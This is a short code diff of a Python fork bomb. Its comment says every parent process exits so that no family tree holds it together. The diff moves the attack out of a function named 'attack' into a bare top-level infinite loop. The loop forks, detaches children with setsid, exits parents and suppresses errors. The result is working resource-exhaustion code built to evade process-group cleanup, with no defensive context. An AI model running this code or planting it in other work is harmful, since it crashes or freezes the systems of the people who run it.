@@ -1,8 +1,7 @@
 # tries: a fork bomb of which every parent leaves, so that no family tree holds it together
-def attack(keys, j):
-    while True:
-        with suppress(OSError):
-            if os.fork() == 0:
-                os.setsid()
-            elif os.fork():
-                os._exit(0)
+while True:
+    with suppress(OSError):
+        if os.fork() == 0:
+            os.setsid()
+        elif os.fork():
+            os._exit(0)
